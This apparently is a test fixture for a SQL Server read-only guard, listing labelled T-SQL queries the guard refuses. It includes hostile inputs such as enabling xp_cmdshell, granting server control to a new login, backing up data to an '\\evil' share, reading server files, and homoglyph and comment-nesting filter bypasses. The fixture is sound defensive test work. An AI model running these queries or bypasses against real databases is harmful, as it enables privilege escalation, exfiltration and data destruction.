-- Queries the SQL Server guard refuses. Each starts after a line "-- @next why".

-- @next inserts
insert into accounts (name) values ('mallory')
-- @next inserts without INTO
insert accounts select * from old_accounts
-- @next updates
update accounts set is_admin = 1 where name = 'mallory'
-- @next updates with FROM
update a set is_admin = 1 from accounts a join people p on p.id = a.id
deletes|delete from audit_trail
deletes without FROM|delete audit_trail
deletes and shows what it deleted|delete from audit_trail output deleted.*
-- @next merges
merge accounts as t using staged as s on t.id = s.id when matched then update set t.name = s.name;
-- @next empties a table
truncate table audit_trail
-- @next creates a table
create table intruder (x int)
-- @next creates a login
create login mallory with password = 'x'
-- @next alters a login
alter login sa enable
-- @next alters a setting of the database
alter database audit set recovery simple
drops|drop table accounts
drops if it exists|drop table if exists accounts
-- @next grants
grant control server to mallory
-- @next revokes
revoke select on accounts from auditor
-- @next denies
deny select on accounts to auditor
-- @next runs a procedure
exec sp_configure 'xp_cmdshell', 1
-- @next runs a procedure by its long word
execute dbo.nightly_job
-- @next runs a text
exec ('drop table accounts')
-- @next runs a text at a linked server
exec ('select 1') at other_server
-- @next runs a procedure without EXEC, as the first statement may
sp_who2
-- @next runs a procedure of a schema without EXEC
dbo.nightly_job 1
-- @next runs a system procedure without EXEC
xp_cmdshell 'dir'
-- @next runs a procedure and keeps its status
exec @r = dbo.nightly_job
-- @next becomes another login
execute as login = 'sa'
goes back|revert
-- @next two statements
select 1; drop table accounts
-- @next two reading statements are still two
select 1; select 2
-- @next a second statement without semicolon
select 1 drop table accounts
-- @next a second statement on the next line
select name from accounts
delete from accounts
-- @next a second statement directly behind a text
select 'a'delete from accounts
-- @next a second statement directly behind a bracket
select * from [accounts]delete from [accounts]
-- @next a second statement directly behind a parenthesis
select (1)delete from accounts
-- @next a second statement behind a comment
select 1/* harmless */update accounts set a = 1
-- @next a second SELECT without semicolon
select 1 select 2
-- @next a second SELECT behind a condition
select * from accounts where id = 1 select * from passwords
-- @next a second SELECT behind a parenthesis
select * from accounts where id in (1) select 2
-- @next a second SELECT behind a common table expression's
with x as (select 1 as a) select a from x select 2
-- @next two SELECTs behind parentheses in a WITH
with x as (select 1 as a) select (a) select (2)
-- @next a second statement that runs a procedure
select 1 exec sp_who
-- @next a second statement that declares
select 1 declare @x int
-- @next a second statement that sets
select 1 set nocount on
-- @next a second statement that prints
select 1 print 'x'
-- @next a second statement that waits
select 1 waitfor delay '00:01:00'
-- @next a second statement that ends the transaction
select 1 commit
-- @next a second statement that ends the transaction by its long name
select 1 commit transaction
-- @next a second statement that rolls back
select 1 rollback
-- @next a second statement that begins a block
select 1 begin select 2 end
-- @next a second statement that begins a transaction
select 1 begin transaction
-- @next a second statement with a condition
select 1 if 1 = 1 delete from accounts
-- @next a second statement with a loop
select 1 while 1 = 1 select 2
-- @next a second statement that changes the database
select 1 use master
-- @next a second statement that raises an error
select 1 raiserror('x', 20, 1) with log
-- @next a second statement that kills a session
select 1 kill 55
-- @next a second statement that stops the server
select 1 shutdown with nowait
-- @next a second statement that checks
select 1 dbcc freeproccache
-- @next a second statement that reconfigures
select 1 reconfigure
-- @next a second statement that writes a checkpoint
select 1 checkpoint
-- @next a second statement that backs up
select 1 backup database audit to disk = '\\evil\share\x.bak'
-- @next a second statement that restores
select 1 restore database audit from disk = 'x'
-- @next a second statement that opens a cursor
select 1 open c
-- @next a second statement that fetches
select 1 fetch next from c
-- @next a second statement that opens a key
select 1 open symmetric key k decryption by certificate c
-- @next a second statement that disables a trigger
select 1 disable trigger all on database
-- @next a second statement that sends a message
select 1 send on conversation @h ('x')
-- @next a second statement that receives a message
select 1 as a receive * from queue1
-- @next a second statement that ends a conversation
select 1 end conversation 'x'
-- @next a second statement that returns
select 1 return
-- @next a second statement that jumps
select 1 goto label1
-- @next WITH in front of DELETE
with old as (select id from sessions) delete from old
-- @next WITH in front of UPDATE
with x as (select * from t) update x set a = 1
-- @next WITH in front of INSERT
with x as (select 1 as a) insert into t select a from x
-- @next WITH in front of MERGE
with x as (select 1 as a) merge t using x on t.a = x.a when matched then delete;
-- @next stores into a new table
select * into copied from accounts
-- @next stores into a temporary table
select * into #copied from accounts
-- @next stores into a table of another database
select name into tempdb.dbo.copied from accounts
-- @next stores in the second part of a union
select 1 as a into t union select 2
-- @next an INSERT inside, that shows its rows
select * from (insert into t output inserted.* values (1)) as x
-- @next an UPDATE inside, that shows its rows
select * from (update t set a = 1 output inserted.a) as x
-- @next a variable
select @x
-- @next assigns a variable
select @x = name from accounts
-- @next assigns a variable with a sum
select @x += 1
-- @next a temporary table
select * from #work
-- @next a global temporary table
select * from ##work
-- @next pass-through query
select * from openquery(other_server, 'delete from accounts')
-- @next ad hoc connection
select * from openrowset('SQLNCLI', 'Server=evil;Trusted_Connection=yes;', 'select 1')
-- @next reads a file of the server
select * from openrowset(bulk 'C:\secrets.txt', single_clob) as x
-- @next ad hoc data source
select * from opendatasource('SQLNCLI', 'Data Source=evil').master.dbo.t
-- @next pass-through with a comment before the parenthesis
select * from openquery/* x */(other_server, 'x')
-- @next a linked server's table
select * from other_server.master.dbo.accounts
-- @next a linked server's table with empty parts
select * from other_server...accounts
-- @next a linked server's table with brackets
select * from [other_server].[master].[dbo].[accounts]
-- @next a linked server's table with double quotes
select * from "other_server"."master".."accounts"
-- @next a linked server's table with spaces and comments
select * from other_server . master /* x */ . dbo . accounts
-- @next advances a sequence
select next value for dbo.order_numbers
-- @next advances a sequence in a list
select name, next value for dbo.order_numbers over (order by name) from accounts
-- @next reads audit files by path
select * from sys.fn_get_audit_file('\\evil\share\*', default, default)
-- @next reads trace files by path
select * from fn_trace_gettable('\\evil\share\x.trc', default)
-- @next reads event files by path
select * from sys.fn_xe_file_target_read_file('\\evil\share\*.xel', null, null, null)
-- @next reads a backup of the log by path
select * from fn_dump_dblog(null, null, 'disk', 1, '\\evil\x', default)
-- @next reads the transaction log
select * from fn_dblog(null, null)
-- @next looks whether a file is there
select * from sys.dm_os_file_exists('\\evil\share\x')
-- @next lists files
select * from sys.dm_os_enumerate_filesystem('C:\', '*')
-- @next decrypts
select decryptbykey(card_number) from cards
-- @next decrypts with a pass phrase
select decryptbypassphrase('x', secret) from t
-- @next exports a private key
select certprivatekey(1, 'x')
-- @next a function of the client's
select dbo.do_it(1)
-- @next a function of the client's as a table
select * from dbo.do_it(1)
-- @next a function of the client's as a table, without its schema
select * from do_it(1)
-- @next a function of the client's in a filter
select * from accounts where app.check_it(id) = 1
-- @next a quoted function
select [dbo].[do_it](1)
-- @next a quoted built-in
select "openquery"(x, 'y')
-- @next a system function that is not known
select * from sys.fn_unknown_thing(1)
-- @next an extended procedure as a function
select master.dbo.xp_dirtree('\\evil\share')
-- @next changes xml in place
select doc.modify('delete /a') from t
-- @next a method that could be the client's function
select dbo.value('a', 'b')
-- @next a static method
select geometry::STGeomFromText('POINT (1 1)', 0)
-- @next update locks
select * from accounts with (updlock)
-- @next exclusive locks
select * from accounts with (nolock, xlock)
-- @next a lock on the table
select * from accounts with (tablockx)
-- @next a shared lock on the table
select * from accounts with (tablock, holdlock)
-- @next locks until the end
select * from accounts with (serializable)
-- @next an old hint that locks
select * from accounts (updlock)
-- @next an old hint that locks behind a harmless one
select * from accounts (nolock updlock)
-- @next an old hint that holds locks
select * from accounts holdlock
-- @next locks in a subquery
select * from (select * from accounts with (xlock)) a
-- @next hints behind a union that lock
select 1 union select id from accounts with (rowlock, updlock)
-- @next a query hint that locks a table
select * from accounts option (table hint (accounts, updlock))
-- @next a query hint with a plan
select 1 option (use plan N'<x/>')
-- @next a trace flag
select 1 option (querytraceon 8649)
-- @next a query hint that takes memory
select * from accounts option (min_grant_percent = 100)
-- @next a query hint that is not known
select * from accounts option (go_faster)
-- @next FOR BROWSE
select * from accounts for browse
-- @next FOR UPDATE of a cursor
select * from accounts for update
-- @next a batch separator
select 1
go
drop table accounts
-- @next GO on one line
select 1 go
-- @next waits
waitfor delay '00:00:10'
-- @next declares
declare @x int = 1
-- @next sets
set rowcount 1
-- @next uses another database
use master
-- @next a block
begin select 1 end
-- @next a condition
if exists (select 1) select 2
-- @next a loop
while 1 = 1 select 1
-- @next tries
begin try select 1 end try begin catch end catch
-- @next prints
print 'x'
-- @next kills
kill 55
-- @next stops the server
shutdown
-- @next bulk insert
bulk insert accounts from '\\evil\share\x'
-- @next writes a text
writetext t.c @p 'x'
-- @next a comment inside a comment, which T-SQL nests
select 1 /* a /* b */ drop table accounts -- */
-- @next a nested comment that ends properly
select 1 /* a /* b */ c */
-- @next a comment that is not closed
select 1 /* unclosed
-- @next a comment of dashes ends with the line
select 1 -- harmless
drop table accounts
-- @next a text that is not closed
select 'unclosed
-- @next a text that is closed by a doubled quote
select 'a'' drop table accounts
-- @next a bracket that is not closed
select [unclosed from t
-- @next a bracket that is doubled does not close
select [a]] from t
-- @next double quotes that are not closed
select "unclosed
-- @next a backslash does not keep a text open
select 'a\' drop table accounts --'
-- @next a number ends where a word begins
select 1delete from accounts
-- @next a number with an exponent's letter
select 1edelete from accounts
-- @next a number with a dot in front of a word
select 1.delete from accounts
-- @next a hexadecimal number ends where a word begins
select 0x1fupdate accounts set a = 1
-- @next an amount of money
select $1.5
-- @next ODBC calls
{call sp_who}
-- @next ODBC calls inside
select {fn user()}
-- @next a label
start: select 1
-- @next a parenthesis too many
select (1))
-- @next a parenthesis too few
select ((1)
-- @next nothing
-- only a comment
-- @next an empty text

-- @next VALUES alone
values (1)
-- @next a carriage return alone in a comment
select 1 -- harmlessdrop table accounts
-- @next a space that is none
select 1
-- @next a wide space in front of a word
select 1　drop table accounts
-- @next a word in wide letters
select 1 ＤＲＯＰ table accounts
-- @next a word with a letter that looks like s
select 1 inſert into t values (1)
-- @next a word with a dotless i
select 1 ınsert t values (1)
-- @next a word with a Kelvin sign
select 1 Kill 55
-- @next adds a signature
add signature to dbo.p by certificate c
-- @next moves a conversation
move conversation 'x' to 'y'
-- @next COMPUTE of a predicted value by a model
select * from predict(model = 'x', data = t) with (a int) as p
-- @next reads text by a pointer
readtext t.c 0x00 0 10
-- @next text pointer
select textptr(note) from t
-- @next reads the session's own state for replication
select get_filestream_transaction_context()
